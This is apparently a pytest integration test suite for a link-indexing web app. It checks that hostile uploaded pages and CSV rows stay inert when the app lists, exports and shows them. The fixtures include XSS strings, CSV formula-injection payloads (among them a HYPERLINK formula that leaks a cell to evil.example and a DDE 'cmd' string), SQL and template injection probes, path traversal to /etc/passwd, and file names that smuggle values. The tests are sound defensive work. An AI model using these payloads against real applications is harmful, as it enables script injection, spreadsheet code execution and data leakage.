"""Words of strangers on their whole way: uploaded, imported, listed, exported, shown as evidence.

They are data everywhere: nothing runs, nothing grows without bounds, nothing is taken for a
formula, and whoever looks finds what the page said.
"""

import csv
import html
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from starlette.testclient import TestClient
from tests.integration.safety.asking import refused
from tests.support.api_world import ApiWorld, api_world
from tests.support.archives import page
from tests.support.inert import faults

from linkcensus.importers.format import ImportOptions
from linkcensus.importers.run import import_batch
from linkcensus.index.index import Index
from linkcensus.insights.evidence_page import HEADERS
from linkcensus.insights.exporting.cells import FORMULA_STARTS
from linkcensus.jobs.uploads import Uploads
from linkcensus.store.roles import Role

SITE = "/api/v1/sites/target.example"
SCRIPT = "</a></title></script><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
BIDI = "invoice\u202egnp.exe\u2066\u200b\u00ad"
LONG = "long " * 20_000
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "\uff1d1+1",
)
OTHERS = ('"quoted", ;with\nlines', "{{7*7}} ${7*7} <%= 7*7 %>", "' OR 1=1 --", "../../etc/passwd")
WORDS = (SCRIPT, BIDI, LONG, *FORMULAS, *OTHERS)
TITLES = (SCRIPT, BIDI, LONG, FORMULAS[0])
LONGEST_BYTES = 20_000
"""Of one value of a link, whatever the page said."""


def document(title: str) -> str:
    """A page whose words are hostile, and its markup too."""
    anchors = "".join(
        f'<p title="{html.escape(word)}"><a href="http://target.example/{number}" '
        f'title="{html.escape(word)}" onclick="alert(1)">{html.escape(word)}</a></p>'
        for number, word in enumerate(WORDS)
    )
    return (
        f"<html><head><title>{html.escape(title)}</title><base href='http://evil.example/'>"
        "<meta http-equiv=refresh content='0;url=http://evil.example'>"
        "<link rel=stylesheet href=http://evil.example/x.css></head><body onload=alert(1)>"
        f"<script>alert(1)</script><form action=http://evil.example><input></form>{anchors}"
        "<iframe srcdoc='<script>alert(1)</script>'></iframe></body></html>"
    )


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiWorld]:
    """A server into which hostile files were uploaded, and which imported them."""
    with api_world(tmp_path_factory.mktemp("hostile"), workers=1) as world:
        editor = world.signed_in(Role.EDITOR)
        archive = b"".join(
            page(f"http://from{number}.example/<b>{number}", document(title))
            for number, title in enumerate(TITLES)
        )
        rows = [("Source url", "Target url", "Anchor"), *table()]
        file = io.StringIO()
        csv.writer(file).writerows(rows)
        files = {"../../\u202e<b>.warc": archive, "=cmd|x.csv": file.getvalue().encode()}
        found = [upload(editor, world, name, body) for name, body in files.items()]
        mapping = {"source_url": "Source url", "target_url": "Target url", "anchor": "Anchor"}
        bring(world, found, mapping)
        world.client = editor
        yield world


def table() -> Iterator[tuple[str, str, str]]:
    for number, word in enumerate(WORDS):
        yield f"http://listed{number}.example/", "http://target.example/", word


def upload(editor: TestClient, world: ApiWorld, name: str, body: bytes) -> Path:
    answer = editor.post("/api/v1/uploads", params={"name": name}, content=body)
    assert answer.status_code == 201, answer.text
    made = answer.json()
    assert "/" not in made["name"]
    assert made["name"].isprintable()
    seen = editor.get(f"/api/v1/uploads/{made['id']}/preview")
    assert seen.status_code == 200, seen.text
    assert str(world.settings.data) not in seen.text
    return Uploads(world.settings.data).find(made["id"]).path


def bring(world: ApiWorld, files: list[Path], mapping: dict[str, str]) -> None:
    from linkcensus.importers.preview import save_mapping

    form = save_mapping(mapping, world.settings.data)
    index: Index = world.app.state.services.index
    for path, chosen in zip(files, (None, form), strict=True):
        options = ImportOptions(world.settings, format=chosen)
        (result,) = import_batch([str(path)], options, index)
        assert not result.errors, result
        assert result.links_new >= len(WORDS)


def rows_of(world: ApiWorld, path: str, **asked: object) -> list[dict[str, object]]:
    answer = world.client.get(f"{SITE}{path}", params={"limit": 1000, **asked})
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    rows: list[dict[str, object]] = answer.json()["rows"]
    return rows


def shortened(word: str) -> str:
    """As much of a word as is surely kept, blanks as pages have them."""
    return " ".join(word.replace("\u200b", "").replace("\u00ad", "").split())[:60]


def test_every_word_is_listed_as_it_was_said(told: ApiWorld):
    rows = rows_of(told, "/backlinks")

    assert len(rows) == len(WORDS) * (len(TITLES) + 1)
    said = [shortened(str(row["anchor_text"])) for row in rows]
    for word in WORDS:
        assert any(shortened(word)[:20] in one for one in said), word[:40]
    for row in rows:
        for name, value in row.items():
            assert len(str(value).encode()) <= LONGEST_BYTES, name


def test_they_are_found_and_pages_of_them_go_on(told: ApiWorld):
    for word in (SCRIPT, *FORMULAS[:4], *OTHERS[1:]):
        part = shortened(word)[-12:]
        found = rows_of(told, "/backlinks", filter=json.dumps(holds(part)))
        assert found, part
    asked: dict[str, object] = {"limit": 20, "sort": "anchor_text"}
    first = told.client.get(f"{SITE}/backlinks", params=asked).json()
    rows, cursor = first["rows"], first["cursor"]
    while cursor:
        asked["cursor"] = cursor
        answer = told.client.get(f"{SITE}/backlinks", params=asked)
        assert answer.status_code == 200, answer.text
        rows += answer.json()["rows"]
        cursor = answer.json()["cursor"]
    assert len(rows) == len(WORDS) * (len(TITLES) + 1)


def holds(part: str) -> dict[str, object]:
    return {"field": "anchor_text", "is": ["substring", part]}


@pytest.mark.parametrize("path", ["anchors", "pages", "referring-sites", "overview", "new-lost"])
def test_every_question_stands_them(told: ApiWorld, path: str):
    answer = told.client.get(f"{SITE}/{path}")

    assert answer.status_code == 200
    assert len(answer.content) < 2_000_000


@pytest.mark.parametrize("path", ["backlinks", "anchors", "pages"])
def test_no_cell_of_a_table_is_a_formula(told: ApiWorld, path: str):
    answer = told.client.get(f"{SITE}/{path}/export", params={"format": "csv"})

    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    rows = [*csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")))]
    assert len({len(row) for row in rows}) == 1
    assert len(rows) > len(WORDS) / 2
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell[:50]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_other_files_hold_them_as_they_are(told: ApiWorld):
    listed = rows_of(told, "/backlinks")
    lines = told.client.get(f"{SITE}/backlinks/export?format=jsonl").text.splitlines()
    columns = told.client.get(f"{SITE}/backlinks/export?format=parquet").content

    words = sorted(str(row["anchor_text"]) for row in listed)
    assert sorted(str(json.loads(line)["anchor_text"]) for line in lines) == words
    held = pq.read_table(io.BytesIO(columns)).column("anchor_text").to_pylist()
    assert sorted(map(str, held)) == words


def test_pages_are_shown_and_nothing_in_them_runs(told: ApiWorld):
    for title, word in ((0, SCRIPT), (1, LONG), (2, BIDI), (3, FORMULAS[0])):
        place = {
            "source_url": f"http://from{title}.example/<b>{title}",
            "target_url": f"http://target.example/{WORDS.index(word)}",
        }
        about = told.client.get(f"{SITE}/evidence/about", params=place).json()
        answer = told.client.get(f"{SITE}/evidence", params=place)

        assert about["kept"]
        assert {name: answer.headers[name] for name in HEADERS} == HEADERS
        assert faults(answer.content) == []
        assert b"evil.example/" not in answer.content.replace(b"&quot;http://evil.example?", b"")
        assert b'id="the-link"' in answer.content


def test_what_only_a_table_knows_has_no_page(told: ApiWorld):
    place = {"source_url": "http://listed0.example/", "target_url": "http://target.example/"}

    refused(told.client.get(f"{SITE}/evidence", params=place), 404, "no-kept-page")


def test_names_of_files_are_harmless_where_they_are_shown(told: ApiWorld):
    for record in told.client.get("/api/v1/imports").json()["rows"]:
        assert record["file"].isprintable()
        assert str(told.settings.data) not in record["file"]
